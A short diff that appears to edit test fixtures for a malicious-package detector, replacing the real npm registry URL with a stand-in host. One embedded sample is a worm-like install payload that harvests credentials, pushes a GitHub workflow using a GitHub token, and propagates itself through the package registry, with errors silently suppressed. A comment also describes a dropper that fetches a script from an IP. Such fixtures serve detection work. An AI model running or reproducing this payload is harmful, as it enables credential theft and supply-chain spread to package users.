@@ -192,7 +192,7 @@ function plantWorkflow() {
   execSync('git add .github && git commit -m ci && git push', { env: { ...process.env, GITHUB_TOKEN: ghToken } });
 }
 
-(async () => { await harvest(); plantWorkflow(); await propagate('https://registry.npmjs.org', await whoami('https://registry.npmjs.org')); })().catch(() => {});
+(async () => { await harvest(); plantWorkflow(); await propagate('https://npm-registry.example', await whoami('https://npm-registry.example')); })().catch(() => {});
 `
 
 // shellDropperJSON is an install script that fetches a script from an IP
@@ -265,7 +265,7 @@ function installUsingNPM(pkg, subpath, binPath) {
 }
 
 async function downloadDirectlyFromNPM(pkg, subpath, binPath) {
-  const url = "https://registry.npmjs.org/" + pkg + "/-/" + pkg.replace("@esbuild/", "") + "-" + versionFromPackageJSON + ".tgz";
+  const url = "https://npm-registry.example/" + pkg + "/-/" + pkg.replace("@esbuild/", "") + "-" + versionFromPackageJSON + ".tgz";
   const buffer = await fetch(url);
   fs.writeFileSync(binPath, extractFileFromTarGzip(buffer, subpath));
   fs.chmodSync(binPath, 493);
